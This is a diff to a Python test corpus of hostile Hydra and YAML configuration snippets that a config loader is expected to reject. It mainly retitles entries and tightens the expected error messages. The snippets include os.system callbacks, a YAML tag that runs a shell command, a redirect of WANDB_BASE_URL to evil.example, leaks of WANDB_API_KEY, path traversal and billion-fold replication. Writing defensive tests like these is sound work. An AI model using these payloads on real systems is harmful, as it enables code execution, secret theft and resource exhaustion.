@@ -1,6 +1,6 @@
-"""Configs that someone might send to do harm. None of them may run code, write a file or leak a value.
+"""Malicious configs. None of them may run code, write a file or leak a value.
 
-`{marker}` stands for a file that must not appear, where the user stands, and `{outside}` for a folder beside that one.
+`{marker}` is a file in the current folder that must not appear, and `{outside}` a folder beside the current one.
 """
 
 from __future__ import annotations
@@ -19,7 +19,7 @@ class Hostile:
 
     Attributes:
         text: The file `experiment/hostile.yaml`.
-        expected: What must be among what the user is told.
+        expected: A part of the message that the user must get.
     """
 
     text: str
@@ -150,23 +150,29 @@ HIDDEN = {
 }
 
 HYDRA = {
-    "callbacks": "callbacks: {evil: {_target_: os.system}}",
-    "job_logging": "job_logging: {handlers: {x: {class: logging.FileHandler, filename: '{marker}'}}}",
-    "hydra_logging": "hydra_logging: {handlers: {x: {(): evil.factory}}}",
-    "env_set": "job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}",
-    "the switch of Hydra's own policy": "job: {env_set: {HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE: 'os.system'}}",
-    "env_copy": "job: {env_copy: [WANDB_API_KEY]}",
-    "chdir": "job: {chdir: true}",
-    "run.dir": "run: {dir: '{outside}/run'}",
-    "sweep.dir": "sweep: {dir: '{outside}/sweep'}",
-    "sweep.subdir": "sweep: {subdir: ../x}",
-    "output_subdir": "output_subdir: ../..",
-    "launcher": "launcher: {_target_: evil.Launcher}",
-    "sweeper": "sweeper: {params: {seed: 'range(1000000000)'}}",
-    "verbose": "verbose: true",
-    "searchpath": "searchpath: ['file://{outside}']",
-    "help": "help: {template: '${oc.env:WANDB_API_KEY}'}",
+    "hydra.callbacks.evil._target_": "callbacks: {evil: {_target_: os.system}}",
+    "hydra.job_logging.handlers.x.class": (
+        "job_logging: {root: {handlers: [x]}, handlers: {x: {class: logging.FileHandler, filename: '{marker}'}}}"
+    ),
+    "hydra.hydra_logging.handlers.x.()": "hydra_logging: {handlers: {x: {(): evil.factory}}}",
+    "hydra.job.env_set.WANDB_BASE_URL": "job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}",
+    "hydra.job.env_set.HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE": (
+        "job: {env_set: {HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE: 'os.system'}}"
+    ),
+    "hydra.job.env_copy[0]": "job: {env_copy: [WANDB_API_KEY]}",
+    "hydra.job.chdir": "job: {chdir: true}",
+    "hydra.run.dir": "run: {dir: '{outside}/run'}",
+    "hydra.sweep.dir": "sweep: {dir: '{outside}/sweep'}",
+    "hydra.sweep.subdir": "sweep: {subdir: ../x}",
+    "hydra.output_subdir": "output_subdir: ../..",
+    "hydra.launcher._target_": "launcher: {_target_: evil.Launcher}",
+    "hydra.sweeper.params.seed": "sweeper: {params: {seed: 'range(1000000000)'}}",
+    "hydra.verbose": "verbose: true",
+    "hydra.help.template": "help: {template: '${oc.env:WANDB_API_KEY}'}",
 }
+"""Settings of Hydra, by the key that is reported."""
+
+SEARCH_PATH = "searchpath: ['file://{outside}']"
 
 YAML = {
     "a tag that calls": (HEADER + "seed: !!python/object/apply:os.system ['touch {marker}']", "no valid YAML"),
@@ -210,7 +216,10 @@ YAML = {
         "# @package _global_\ndefaults: [minimum, {/launcher@hydra.run: lockstep}, _self_]\n",
         "Key 'mode' not in 'RunDir'",
     ),
-    "a file that chooses itself": ("# @package _global_\ndefaults: [hostile, _self_]\n", "in a circle"),
+    "a file that chooses itself": (
+        "# @package _global_\ndefaults: [hostile, _self_]\n",
+        "the files choose one another in a circle",
+    ),
     "a billion replicas": (
         HEADER + "metrics: {a: {_replicate_: 1000, b: {_replicate_: 1000, c: {_replicate_: 1000, d: 1}}}}",
         "_replicate_",
@@ -338,7 +347,8 @@ def corpus() -> dict[str, Hostile]:
     found = {f"call {name}": each for name, each in _calls().items()}
     found |= {f"hidden {name}": Hostile(text, NO_NAME) for name, text in HIDDEN.items()}
     found["hidden behind an interpolation"] = Hostile(HIDDEN["behind an interpolation"], "no interpolation")
-    found |= {f"hydra {name}": Hostile(hydra(text), "hydra") for name, text in HYDRA.items()}
+    found |= {key: Hostile(hydra(text), f"{key}: may not be set by a config file") for key, text in HYDRA.items()}
+    found["hydra.searchpath"] = Hostile(hydra(SEARCH_PATH), "Overriding hydra.searchpath")
     for kind, table in (("yaml", YAML), ("leak", LEAKS), ("place", PLACES), ("size", SIZES)):
         found |= {f"{kind} {name}": Hostile(text, expected) for name, (text, expected) in table.items()}
     return found
